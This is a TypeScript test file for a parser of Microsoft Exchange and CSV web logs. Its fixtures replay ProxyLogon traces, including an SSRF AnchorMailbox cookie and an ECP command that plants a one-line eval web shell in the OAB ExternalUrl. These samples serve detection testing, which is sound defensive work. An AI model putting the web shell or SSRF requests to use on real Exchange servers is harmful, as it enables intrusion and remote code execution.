import { describe, expect, it } from 'vitest';
import type { EventRecord } from '../../src/events/event.js';
import { parseEcpData, serviceOfLogType, splitEcpCommand } from '../../src/sources/exchange.js';
import { crlf, fields, readContent } from './read-helper.js';

/** HttpProxy columns of Exchange 2016 CU19+/2019 (the documented `#Fields` line of `Logging\HttpProxy\<protocol>\`). */
const HTTPPROXY_FIELDS = (
  'DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,' +
  'ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,' +
  'ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,' +
  'RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,' +
  'AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,' +
  'AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,' +
  'SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,' +
  'ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,' +
  'BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HttpProxyOverhead,TotalRequestTime,' +
  'RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,' +
  'PartitionEndpointLookupLatency,RoutingStatus'
).split(',');

/** A CSV row the way Exchange writes one: quoted only when a value has a comma, quote or line break. */
function csvRow(columns: readonly string[], values: Record<string, string>): string {
  return columns
    .map((c) => {
      const v = values[c] ?? '';
      return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
    })
    .join(',');
}

function httpProxyLog(rows: Record<string, string>[], options: { plainHeader?: boolean } = {}): string {
  return crlf([
    '#Software: Microsoft Exchange Server',
    '#Version: 15.01.2176.002',
    '#Log-type: HttpProxy Logs',
    '#Date: 2021-03-03T06:00:00.084Z',
    `#Fields: ${HTTPPROXY_FIELDS.join(',')}`,
    ...(options.plainHeader ? [HTTPPROXY_FIELDS.join(',')] : []),
    ...rows.map((r) => csvRow(HTTPPROXY_FIELDS, r)),
  ]);
}

const ssrfRow = {
  DateTime: '2021-03-03T06:49:46.210Z',
  RequestId: '6b0a7c52-1a1f-4a1b-9a55-3f4e2f0f9c11',
  MajorVersion: '15',
  MinorVersion: '1',
  BuildVersion: '2176',
  RevisionVersion: '2',
  Protocol: 'Ecp',
  UrlHost: 'mail.example.org',
  UrlStem: '/ecp/x.js',
  AuthenticationType: 'Anonymous',
  IsAuthenticated: 'false',
  AuthenticatedUser: '',
  AnchorMailbox: 'ServerInfo~a]@EXCH01.corp.example:444/ecp/proxyLogon.ecp?#',
  UserAgent: 'python-requests/2.25.1',
  ClientIpAddress: '203.0.113.50',
  ServerHostName: 'EXCH01',
  HttpStatus: '241',
  Method: 'POST',
  ProxyAction: 'Proxy',
  RoutingHint: 'X-BEResource-Cookie',
  GenericInfo: 'BeginRequest=2021-03-03T06:49:46.180Z;CorrelationID=<empty>;ProxyState-Run=None;',
};

const owaRow = {
  DateTime: '2021-03-03T07:10:00.001Z',
  Protocol: 'Owa',
  UrlHost: 'mail.example.org',
  UrlStem: '/owa/auth/logon.aspx',
  UrlQuery: '?url=https%3a%2f%2fmail.example.org%2fowa%2f&reason=0',
  AuthenticatedUser: 'CORP\\alice',
  AnchorMailbox: 'Smtp:alice@corp.example',
  UserAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0 Safari/537.36',
  ClientIpAddress: '10.1.1.20',
  ServerHostName: 'EXCH01',
  HttpStatus: '200',
  Method: 'GET',
};

describe('Exchange HttpProxy logs', () => {
  it('reads rows by the #Fields header: every column by its name, webserver names too, both hints', () => {
    const { events, warnings } = readContent(httpProxyLog([ssrfRow, owaRow]), 'HttpProxy_2021030306-1.LOG');
    expect(warnings).toEqual([]);
    expect(events).toHaveLength(2);
    const [ssrf, owa] = events as [EventRecord, EventRecord];
    expect(ssrf.logsource).toEqual({ product: 'exchange', service: 'httpproxy', category: 'webserver' });
    expect(ssrf.time).toBe('2021-03-03T06:49:46.210Z');
    expect(ssrf.host).toBe('EXCH01');
    expect(ssrf.recordId).toBe(6);
    expect(ssrf.get('AnchorMailbox')).toBe('ServerInfo~a]@EXCH01.corp.example:444/ecp/proxyLogon.ecp?#');
    expect(ssrf.get('AuthenticatedUser')).toBe('');
    expect(ssrf.get('HttpStatus')).toBe('241');
    expect(ssrf.get('GenericInfo')).toBe(ssrfRow.GenericInfo);
    expect(ssrf.get('cs-uri-stem')).toBe('/ecp/x.js');
    expect(ssrf.get('cs-method')).toBe('POST');
    expect(ssrf.get('c-ip')).toBe('203.0.113.50');
    expect(ssrf.get('cs-username')).toBeNull();
    // The user agent with a comma was quoted; the query loses HttpProxy's leading '?', as in W3C.
    expect(owa.get('UserAgent')).toBe(owaRow.UserAgent);
    expect(owa.get('cs-user-agent')).toBe(owaRow.UserAgent);
    expect(owa.get('cs-uri-query')).toBe('url=https%3a%2f%2fmail.example.org%2fowa%2f&reason=0');
    expect(owa.get('c-uri')).toBe('/owa/auth/logon.aspx?url=https%3a%2f%2fmail.example.org%2fowa%2f&reason=0');
    expect(owa.get('cs-username')).toBe('CORP\\alice');
    expect(Object.keys(fields(owa)).slice(0, HTTPPROXY_FIELDS.length)).toEqual(HTTPPROXY_FIELDS);
  });

  it('skips a plain header row written under #Fields, and a header block repeated mid-file', () => {
    const text = httpProxyLog([ssrfRow], { plainHeader: true }) + httpProxyLog([owaRow], { plainHeader: true });
    const { events, warnings } = readContent(text, 'HttpProxy_2021030307-1.LOG');
    expect(warnings).toEqual([]);
    expect(events.map((e) => e.get('UrlStem'))).toEqual(['/ecp/x.js', '/owa/auth/logon.aspx']);
  });

  it("reads PowerShell exports of HttpProxy rows (Test-ProxyLogon's report: #TYPE, quoted header and values)", () => {
    const cols = ['DateTime', 'RequestId', 'ClientIpAddress', 'UrlHost', 'UrlStem', 'RoutingHint', 'UserAgent', 'AnchorMailbox', 'HttpStatus'];
    const q = (vs: string[]) => vs.map((v) => `"${v.replace(/"/g, '""')}"`).join(',');
    const { events, warnings } = readContent(
      crlf([
        '#TYPE Selected.System.Management.Automation.PSCustomObject',
        q(cols),
        q(['2021-03-03T06:49:51.543Z', 'r1', '203.0.113.50', 'mail.example.org', '/ecp/x.js', 'X-BEResource-Cookie', 'python-requests/2.25.1', 'ServerInfo~a]@EXCH01.corp.example:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory#', '200']),
      ]),
      'CVE-2021-26855.csv',
    );
    expect(warnings).toEqual([]);
    expect(events).toHaveLength(1);
    expect(events[0]!.logsource).toEqual({ product: 'exchange', service: 'httpproxy', category: 'webserver' });
    expect(events[0]!.get('AnchorMailbox')).toMatch(/^ServerInfo~a\]@EXCH01/);
    expect(events[0]!.get('cs-uri-stem')).toBe('/ecp/x.js');
    expect(events[0]!.time).toBe('2021-03-03T06:49:51.543Z');
  });

  it('places a CSV without Exchange directives as HttpProxy by its columns, and a bare header-less copy by its folder', () => {
    const byColumns = readContent(['DateTime,UrlStem,AnchorMailbox,HttpStatus', '2021-03-03T06:49:42.162Z,/ecp/x.js,ServerInfo~x]@h:444/mapi/emsmdb/?#,200'].join('\n'), 'proxy.csv');
    expect(byColumns.events[0]!.logsource?.service).toBe('httpproxy');
    const text = '#Software: Microsoft Exchange Server\n2021-03-03T06:49:42.162Z,unknown layout\n';
    const byFolder = readContent(text, 'Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG');
    expect(byFolder.events[0]!.logsource?.service).toBe('httpproxy');
    expect(byFolder.events[0]!.get('message')).toBe('2021-03-03T06:49:42.162Z,unknown layout');
    const elsewhere = readContent(text, 'copied/proxy-extract.log');
    expect(elsewhere.events[0]!.logsource).toEqual({ product: 'exchange' });
  });
});

describe('Exchange ECP server logs', () => {
  const ecpFields = '#Fields: TimeStamp,ServerName,EventId,EventData';
  const setCmd =
    "S:TIME=4109;S:SID=1f3c;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://o/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>'.Identity='7d1b0c0e-3c6b-4b7e-9a54-0e9a8c6b2f31';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:ACTID=2b7f";

  it('reads rows by #Fields and splits EventData into S:KEY fields, with Cmdlet and Parameters from S:CMD', () => {
    const { events, warnings } = readContent(
      crlf([
        '#Software: Microsoft Exchange Server',
        '#Version: 15.0.0.0',
        '#Log-type: ECP Server Log',
        '#Date: 2021-03-03T00:02:33.938Z',
        ecpFields,
        '2021-03-03T06:49:51.389Z,EXCH01,ECP.Request,S:TIME=13;S:SID=1f3c;S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetObject;S:EX=',
        csvRow(['TimeStamp', 'ServerName', 'EventId', 'EventData'], { TimeStamp: '2021-03-03T06:49:53.772Z', ServerName: 'EXCH01', EventId: 'ECP.Request', EventData: setCmd }),
      ]),
      'ECPServer20210303-1.LOG',
    );
    expect(warnings).toEqual([]);
    expect(events).toHaveLength(2);
    const [get, set] = events as [EventRecord, EventRecord];
    expect(get.logsource).toEqual({ product: 'exchange', service: 'ecp-server' });
    expect(get.host).toBe('EXCH01');
    expect(get.get('Cmdlet')).toBe('Get-OabVirtualDirectory');
    expect(set.get('Cmdlet')).toBe('Set-OabVirtualDirectory');
    expect(set.get('EventData')).toBe(setCmd);
    // The script's own ';' did not end the S:CMD value.
    expect(set.get('S:CMD')).toMatch(/^Set-OabVirtualDirectory\.ExternalUrl='http:\/\/o\/<script.*<\/script>'\.Identity='7d1b[^']*'$/);
    expect(set.get('Parameters')).toMatch(/^ExternalUrl='http:\/\/o\/<script/);
    expect(set.get('S:URL')).toBe('/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory');
    expect(set.time).toBe('2021-03-03T06:49:53.772Z');
  });

  it('still reads an ECP log whose #Fields line is gone (an extract): one event per line, the line as message', () => {
    const { events } = readContent(
      [
        '#Software: Microsoft Exchange Server',
        '#Log-type: ECP Server Log',
        'selected lines of the server log',
        "2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://o/<script runat=\"\"server\"\">...</script>''.Identity=''x'''",
      ].join('\n'),
      'ecp_extract.log',
    );
    expect(events).toHaveLength(2);
    const e = events[1]!;
    expect(e.logsource).toEqual({ product: 'exchange', service: 'ecp-server' });
    expect(e.time).toBe('2021-03-03T06:49:53.772Z');
    expect(e.get('message')).toContain('Set-OabVirtualDirectory.ExternalUrl=');
    expect(e.get('Cmdlet')).toBe('Set-OabVirtualDirectory');
  });

  it('splits ECP data pairs of every type prefix and cmdlets of pipelines', () => {
    expect(parseEcpData('S:URL=/ecp/x;I32:ADS.C[DC1]=1;F:ADS.AL[DC1]=1.69;Dbl:WLM.TS=16;S:EX=')).toEqual([
      ['S:URL', '/ecp/x'],
      ['I32:ADS.C[DC1]', '1'],
      ['F:ADS.AL[DC1]', '1.69'],
      ['Dbl:WLM.TS', '16'],
      ['S:EX', ''],
    ]);
    expect(splitEcpCommand('Pipeline.1|Get-MailboxRegionalConfiguration')).toEqual({ cmdlet: 'Get-MailboxRegionalConfiguration', parameters: '' });
    expect(splitEcpCommand('Set-EcpVirtualDirectory.Identity=x')).toEqual({ cmdlet: 'Set-EcpVirtualDirectory', parameters: 'Identity=x' });
    expect(splitEcpCommand('nonsense')).toBeUndefined();
  });
});

describe('other Exchange logs', () => {
  it('places OAB generator logs by #Log-type or, without one, by file name; keyword lines stay searchable', () => {
    const line = "2021-03-03T05:00:01.000Z,OABGen,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed";
    const typed = readContent(
      crlf(['#Software: Microsoft Exchange Server', '#Version: 15.01.2176.002', '#Log-type: OAB Generator Log', '#Fields: DateTime,Component,Message', line]),
      'oab.log',
    );
    expect(typed.events[0]!.logsource).toEqual({ product: 'exchange', service: 'oab-generator' });
    expect(typed.events[0]!.get('Message')).toMatch(/^Download failed and temporary file/);
    const byName = readContent(crlf(['#Software: Microsoft Exchange Server', line]), 'OABGeneratorLog_20210303-1.log');
    expect(byName.events[0]!.logsource).toEqual({ product: 'exchange', service: 'oab-generator' });
    expect(byName.events[0]!.get('message')).toContain('Download failed and temporary file');
  });

  it('names services from #Log-type, and reads quoted values with commas, quotes and line breaks', () => {
    expect(['HttpProxy Logs', 'ECP Server Log', 'ECP Activity Context Log', 'EWS Logs', 'Message Tracking Log', 'Agent Log', 'audit', 'OABGenerator Log'].map(serviceOfLogType)).toEqual([
      'httpproxy', 'ecp-server', 'ecp-activity', 'ews', 'message-tracking', 'agent', 'audit', 'oab-generator',
    ]);
    const { events, warnings } = readContent(
      crlf([
        '#Software: Microsoft Exchange',
        '#Log-type: audit',
        '#Fields: Timestamp,Server,TenantId,RecordType,Data,UserKey,Operation',
        '2023-01-11T15:56:33.189Z,EXCH01,0,ExchangeAdmin,"{""Operation"":""Set-Mailbox"",""Parameters"":[{""Name"":""Identity"",""Value"":""a,b""}]}",NT AUTHORITY\\SYSTEM,Set-Mailbox',
        '2023-01-11T15:57:00.000Z,EXCH01,0,ExchangeAdmin,"first line',
        'second line",user,New-InboxRule',
      ]),
      'audit20230111-1.LOG',
    );
    expect(warnings).toEqual([]);
    expect(events[0]!.logsource).toEqual({ product: 'exchange', service: 'audit' });
    expect(events[0]!.get('Data')).toBe('{"Operation":"Set-Mailbox","Parameters":[{"Name":"Identity","Value":"a,b"}]}');
    expect(events[0]!.host).toBe('EXCH01');
    expect(events[1]!.get('Data')).toBe('first line\nsecond line');
    expect(events[1]!.get('Operation')).toBe('New-InboxRule');
    expect(events[1]!.recordId).toBe(5);
  });

  it('resyncs at the next timestamp after a quote that never closes, counting it', () => {
    const { events, warnings } = readContent(
      ['#Software: Microsoft Exchange Server', '#Log-type: EWS Logs', '#Fields: DateTime,User,Info', '2021-03-03T01:00:00.000Z,u1,"broken', '2021-03-03T01:00:01.000Z,u2,fine'].join('\n'),
      'Ews_2021030301-1.LOG',
    );
    expect(events.map((e) => e.get('User'))).toEqual(['u1', 'u2']);
    expect(events[0]!.get('Info')).toBe('broken');
    expect(warnings.map((w) => w.message)).toEqual(['line 4: a quoted value never closes; the record is read as it stands']);
  });

  it('survives a quote opened before any header (found by the fuzzer): the record closes, the file goes on', () => {
    const { events } = readContent('"#Software: x\n"#Log-type: y\n#Fields: DateTime,User\n2021-03-03T01:00:00.000Z,u1\n', 'odd.log');
    expect(events.map((e) => e.get('User'))).toEqual(['u1']);
  });
});

describe('CSV exports of web logs', () => {
  it('answers webserver names from common column names and keeps surplus values', () => {
    const { events, warnings } = readContent(
      [
        'timestamp,host,url,user_agent,status,method',
        '2021-03-05T03:06:27.696Z,mail.example.org,https://mail.example.org/owa/auth/y.aspx?a=1,curl/7.1,200,POST,unexpected',
      ].join('\n'),
      'export.csv',
    );
    const e = events[0]!;
    expect(e.logsource).toEqual({ category: 'webserver' });
    expect(e.get('cs-uri-stem')).toBe('/owa/auth/y.aspx');
    expect(e.get('cs-uri-query')).toBe('a=1');
    expect(e.get('cs-method')).toBe('POST');
    expect(e.get('sc-status')).toBe('200');
    expect(e.get('cs-user-agent')).toBe('curl/7.1');
    expect(e.get('_7')).toBe('unexpected');
    expect(e.time).toBe('2021-03-05T03:06:27.696Z');
    expect(warnings).toHaveLength(1);
  });

  it('gives other CSV files their columns and no hint', () => {
    const { events } = readContent('name,value\nalpha,1\nbeta,2\n', 'table.csv');
    expect(events.map((e) => [e.get('name'), e.get('value'), e.logsource])).toEqual([
      ['alpha', '1', undefined],
      ['beta', '2', undefined],
    ]);
  });
});
